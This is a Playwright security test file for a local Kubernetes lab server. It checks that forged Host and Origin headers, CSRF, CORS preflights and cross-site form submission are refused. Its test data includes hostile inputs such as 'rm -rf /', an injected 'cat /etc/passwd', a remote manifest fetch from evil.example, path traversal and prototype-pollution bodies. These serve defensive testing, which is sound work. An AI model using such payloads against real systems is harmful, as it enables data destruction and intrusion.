// The guard over real HTTP against the running server (security brief §4 group A). Raw node:http so
// Host, Origin and other headers can be forged as an attacker's page or a rebinding DNS would.
import http from 'node:http';
import fs from 'node:fs';
import { expect, test } from '@playwright/test';
import { E2E_PORT, E2E_TOKEN } from './env';

interface Reply {
  status: number;
  headers: http.IncomingHttpHeaders;
  body: string;
}

function send(method: string, path: string, headers: Record<string, string>, body?: string): Promise<Reply> {
  return new Promise((resolve, reject) => {
    const req = http.request({ host: '127.0.0.1', port: E2E_PORT, method, path, headers, setHost: false }, (res) => {
      let data = '';
      res.setEncoding('utf8');
      res.on('data', (c: string) => (data += c));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body: data }));
    });
    req.on('error', reject);
    if (body !== undefined) req.write(body);
    req.end();
  });
}

const HOST = `127.0.0.1:${E2E_PORT}`;
const ORIGIN = `http://${HOST}`;
let cookie = '';
let csrf = '';

async function login(): Promise<void> {
  const body = JSON.stringify({ token: E2E_TOKEN });
  const r = await send('POST', '/api/session', { host: HOST, origin: ORIGIN, 'content-type': 'application/json', 'content-length': String(Buffer.byteLength(body)) }, body);
  expect(r.status).toBe(200);
  const setCookie = String(r.headers['set-cookie']);
  expect(setCookie).toMatch(/HttpOnly/);
  expect(setCookie).toMatch(/SameSite=Strict/);
  cookie = setCookie.split(';')[0];
  csrf = (JSON.parse(r.body) as { csrf: string }).csrf;
}

function runBody(command = 'kubectl version --client') {
  return JSON.stringify({ command });
}

async function jobCount(): Promise<number> {
  const r = await send('GET', '/api/runs', { host: HOST, cookie });
  return (JSON.parse(r.body) as unknown[]).length;
}

function post(headers: Record<string, string | undefined>, body = runBody()) {
  const base: Record<string, string | undefined> = {
    host: HOST,
    origin: ORIGIN,
    cookie,
    'x-cni-lab-csrf': csrf,
    'content-type': 'application/json',
    'content-length': String(Buffer.byteLength(body)),
    ...headers,
  };
  const clean = Object.fromEntries(Object.entries(base).filter(([, v]) => v !== undefined)) as Record<string, string>;
  return send('POST', '/api/runs', clean, body);
}

test.beforeAll(login);

test('the server listens on 127.0.0.1 only', () => {
  // /proc/net/tcp lists listening sockets (state 0A) as hex local address:port.
  const port = E2E_PORT.toString(16).toUpperCase().padStart(4, '0');
  const rows = fs.readFileSync('/proc/net/tcp', 'utf8').split('\n').filter((l) => l.includes(`:${port} `) && / 0A /.test(l));
  expect(rows.length).toBeGreaterThan(0);
  for (const row of rows) expect(row.trim().split(/\s+/)[1]).toBe(`0100007F:${port}`);
  const v6 = fs.existsSync('/proc/net/tcp6') ? fs.readFileSync('/proc/net/tcp6', 'utf8').split('\n').filter((l) => l.includes(`:${port} `) && / 0A /.test(l)) : [];
  expect(v6).toEqual([]);
});

test('foreign Host headers are refused on pages and API (DNS rebinding)', async () => {
  for (const host of [`evil.example:${E2E_PORT}`, `localhost.evil.example:${E2E_PORT}`, `127.0.0.1.nip.io:${E2E_PORT}`, '[example.com]', '']) {
    const page = await send('GET', '/', { host });
    expect([400, 403], `Host ${host}`).toContain(page.status);
    const api = await send('GET', '/api/runs', { host, cookie });
    expect([400, 403]).toContain(api.status);
    expect(api.body).not.toContain('jobId');
  }
  for (const host of [HOST, `localhost:${E2E_PORT}`, `[::1]:${E2E_PORT}`]) {
    expect((await send('GET', '/api/health', { host })).status, `Host ${host}`).toBe(200);
  }
});

test('state-changing requests need the exact Origin, JSON, the cookie and the CSRF header', async () => {
  const before = await jobCount();
  const cases: Array<[string, Record<string, string | undefined>, number]> = [
    ['evil Origin', { origin: 'https://evil.example' }, 403],
    ['null Origin', { origin: 'null' }, 403],
    ['other localhost port', { origin: `http://127.0.0.1:${E2E_PORT + 1}` }, 403],
    ['look-alike Origin', { origin: `http://127.0.0.1:${E2E_PORT}.evil.example` }, 403],
    ['no Origin', { origin: undefined }, 403],
    ['text/plain', { 'content-type': 'text/plain' }, 415],
    ['form', { 'content-type': 'application/x-www-form-urlencoded' }, 415],
    ['no cookie', { cookie: undefined }, 401],
    ['no CSRF header', { 'x-cni-lab-csrf': undefined }, 403],
    ['wrong CSRF header', { 'x-cni-lab-csrf': 'x'.repeat(43) }, 403],
    ['x-middleware-subrequest', { 'x-middleware-subrequest': 'middleware:middleware:middleware:middleware:middleware', origin: 'https://evil.example' }, 403],
  ];
  for (const [name, headers, status] of cases) {
    const r = await post(headers);
    expect(r.status, name).toBe(status);
    expect(r.headers['access-control-allow-origin'], name).toBeUndefined();
  }
  const big = JSON.stringify({ command: 'kubectl get pods', pad: 'x'.repeat(70_000) });
  expect((await post({}, big)).status).toBe(413);
  expect(await jobCount()).toBe(before); // nothing ran
  expect((await post({})).status).toBe(201); // positive control
});

test('bad JSON bodies get clear 400s and never pollute prototypes', async () => {
  for (const body of ['{', '[]', '{"command": 5}', '{"command":"kubectl get pods","extra":1}', '{"__proto__":{"shell":true},"command":"kubectl get pods"}', '{"constructor":{"prototype":{"cwd":"/"}}}']) {
    const r = await post({}, body);
    expect(r.status, body).toBe(400);
    expect((JSON.parse(r.body) as { error: { message: string } }).error.message.length).toBeGreaterThan(3);
  }
});

test('refused commands explain themselves and never start a process', async () => {
  const before = await jobCount();
  for (const cmd of ['rm -rf /', 'kubectl get pods; cat /etc/passwd', 'kubectl --kubeconfig=/etc/passwd get pods', 'kubectl exec -it nginx -- sh', 'kubectl apply -f https://evil.example/x.yaml', 'kubectl foo']) {
    const r = await post({}, runBody(cmd));
    expect(r.status, cmd).toBe(400);
    expect((JSON.parse(r.body) as { error: { message: string } }).error.message, cmd).toMatch(/Refused|not|unsupported|allowed/i);
  }
  expect(await jobCount()).toBe(before);
});

test('CORS preflights are refused and no response carries CORS headers', async () => {
  const r = await send('OPTIONS', '/api/runs', { host: HOST, origin: 'https://evil.example', 'access-control-request-method': 'POST' });
  expect(r.status).toBeGreaterThanOrEqual(400);
  expect(r.headers['access-control-allow-origin']).toBeUndefined();
  const page = await send('GET', '/', { host: HOST });
  expect(page.headers['x-frame-options']).toBe('DENY');
  expect(page.headers['content-security-policy']).toContain("frame-ancestors 'none'");
});

test('lesson ids and file names never reach the file system', async () => {
  for (const path of ['/lessons/..%2f..%2fetc%2fpasswd', '/lessons/__proto__', '/lessons/Lesson-1', '/lessons/x%00.md', '/lessons/constructor']) {
    const r = await send('GET', path, { host: HOST });
    expect(r.status, path).toBe(404);
    expect(r.body).not.toContain('root:x:0:0');
  }
  // "/lessons/%2e%2e" is the path "/lessons/..", i.e. "/": the lesson index, never a file.
  const dots = await send('GET', '/lessons/%2e%2e', { host: HOST });
  expect([200, 404]).toContain(dots.status);
  expect(dots.body).not.toContain('root:x:0:0');
  for (const path of ['/api/lessons/kind-without-cni/files/..%2f..%2fpackage.json', '/api/lessons/..%2fkind-without-cni/files/kind-1m3w-nocni.yaml', '/api/lessons/kind-without-cni/files/.env']) {
    const r = await send('GET', path, { host: HOST, cookie });
    expect([400, 404], path).toContain(r.status);
    expect(r.body).not.toContain('"name": "cni-lab"');
  }
  const ok = await send('GET', '/api/lessons/kind-without-cni/files/kind-1m3w-nocni.yaml', { host: HOST, cookie });
  expect(ok.status).toBe(200);
  expect(ok.body).toContain('disableDefaultCNI: true');
});

test('a page on another origin cannot drive the lab (real browser, auto-submitting form and fetch)', async ({ browser }) => {
  const before = await jobCount();
  const evil = http.createServer((_req, res) => {
    res.writeHead(200, { 'content-type': 'text/html' });
    res.end(`<form id=f method=post action="${ORIGIN}/api/runs" enctype="text/plain"><input name='{"command":"kubectl version --client","x":"' value='"}'></form>
      <script>fetch('${ORIGIN}/api/runs',{method:'POST',mode:'no-cors',credentials:'include',body:'{"command":"kubectl version --client"}'});document.getElementById('f').submit();</script>`);
  });
  await new Promise<void>((r) => evil.listen(0, '127.0.0.1', r));
  const port = (evil.address() as { port: number }).port;
  const context = await browser.newContext();
  // The learner is logged in (cookie set) in the same browser.
  await context.addCookies([{ name: cookie.split('=')[0], value: cookie.split('=').slice(1).join('='), domain: '127.0.0.1', path: '/' }]);
  const page = await context.newPage();
  await page.goto(`http://localhost:${port}/`);
  await page.waitForTimeout(1500);
  await context.close();
  evil.close();
  expect(await jobCount()).toBe(before);
});
